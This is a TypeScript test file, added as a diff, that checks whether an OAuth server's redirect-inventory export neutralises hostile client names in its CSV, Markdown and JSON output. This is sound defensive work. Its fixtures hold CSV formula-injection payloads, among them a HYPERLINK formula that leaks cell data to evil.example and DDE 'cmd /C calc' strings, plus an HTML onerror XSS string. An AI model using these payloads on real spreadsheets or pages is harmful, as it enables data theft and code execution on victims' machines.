@@ -1,0 +1,129 @@
+/**
+ * The inventory report's formats. Client names come from whoever registers a client, and dynamic
+ * registration is open in development: the attack registers clients named as spreadsheet formulas
+ * and as Markdown/HTML, exports the report, and reads the files back as a spreadsheet or a
+ * Markdown renderer would.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import {
+  formatRedirectReport,
+  mdText,
+  neutralisedCell,
+  reportFileName,
+} from '../src/services/redirect-report-format.js';
+import { redirectReport, type RedirectReport } from '../src/services/redirect-report.js';
+import { throwawaySqlite, type ThrowawayDatabase } from './support/databases.js';
+import { startTestServer, type TestServer } from './support/server.js';
+
+/** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i] as string;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += c;
+  }
+  return rows;
+}
+
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '-2+3+cmd|" /C calc"!A0',
+];
+const MARKUP = 'Evil | <img src=x onerror=alert(1)> [click](https://evil.example) `x` **b**';
+
+describe('redirect inventory report formats', () => {
+  let db: ThrowawayDatabase;
+  let t: TestServer;
+  let report: RedirectReport;
+
+  beforeAll(async () => {
+    db = await throwawaySqlite();
+    t = await startTestServer(db, { clock: () => Date.UTC(2026, 5, 1) });
+    for (const name of [...FORMULAS, MARKUP]) {
+      const response = await fetch(`${t.issuer('development')}/register`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({
+          client_name: name,
+          redirect_uris: ['http://127.0.0.1/callback?list=a,b'],
+          token_endpoint_auth_method: 'none',
+          grant_types: ['authorization_code'],
+          application_type: 'native',
+        }),
+      });
+      expect(response.status).toBe(201);
+    }
+    report = await redirectReport(t.ctx, 'development');
+  });
+  afterAll(async () => {
+    await t.close();
+    await db.drop();
+  });
+
+  it('CSV: a client named as a formula is exported as text, never as a formula', () => {
+    const rows = parseCsv(formatRedirectReport(report, 'csv'));
+    const header = rows[0] ?? [];
+    expect(header.slice(0, 3)).toEqual(['environment', 'client_id', 'client_name']);
+    // The header, the five registered here, and the development environment's demo client.
+    expect(rows.length).toBe(1 + FORMULAS.length + 1 + 1);
+    for (const row of rows) expect(row.length).toBe(header.length);
+    const names = rows.slice(1).map((row) => row[header.indexOf('client_name')]);
+    for (const formula of FORMULAS) expect(names).toContain(`'${formula}`);
+    // No cell anywhere starts as a formula would.
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // The comma inside the URI is quoted, not a new column.
+    const attack = rows.find((row) => row[header.indexOf('client_name')] === `'${FORMULAS[0]}`);
+    expect(attack?.[header.indexOf('uri')]).toBe('http://127.0.0.1/callback?list=a,b');
+    expect(attack?.[header.indexOf('channel')]).toBe('dynamic');
+  });
+
+  it('CSV cells: tab, carriage return and leading-space formulas are neutralised too', () => {
+    expect(neutralisedCell('\t=1+1')).toBe("'\t=1+1");
+    expect(neutralisedCell('\r=1+1')).toBe("'\r=1+1");
+    expect(neutralisedCell('  =1+1')).toBe("'  =1+1");
+    expect(neutralisedCell('https://app.example.com/cb')).toBe('https://app.example.com/cb');
+  });
+
+  it('Markdown: names cannot inject HTML, links or table columns', () => {
+    const md = formatRedirectReport(report, 'md');
+    expect(md).not.toContain('<img');
+    expect(md).not.toContain('[click](');
+    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
+    expect(md).toContain('Evil \\| ');
+    expect(mdText('# heading')).toBe('\\# heading');
+    expect(mdText('1. item')).toBe('1\\. item');
+    expect(mdText('a\nb')).toBe('a b');
+    // Each table row has as many cells as its header.
+    const table = md.split('\n').filter((line) => line.startsWith('| redirect'));
+    expect(table.length).toBe(FORMULAS.length + 1 + 1);
+    for (const line of table) expect(line.split(/(?<!\\)\|/).length).toBe(11);
+  });
+
+  it('JSON: the report as it is; a file name that names the environment and day', () => {
+    const parsed = JSON.parse(formatRedirectReport(report, 'json')) as RedirectReport;
+    const dynamic = parsed.clients.filter((c) => c.kind === 'dynamic').map((c) => c.name);
+    expect(dynamic.sort()).toEqual([...FORMULAS, MARKUP].sort());
+    expect(reportFileName(report, 'csv')).toBe('redirect-inventory-development-2026-06-01.csv');
+  });
+});
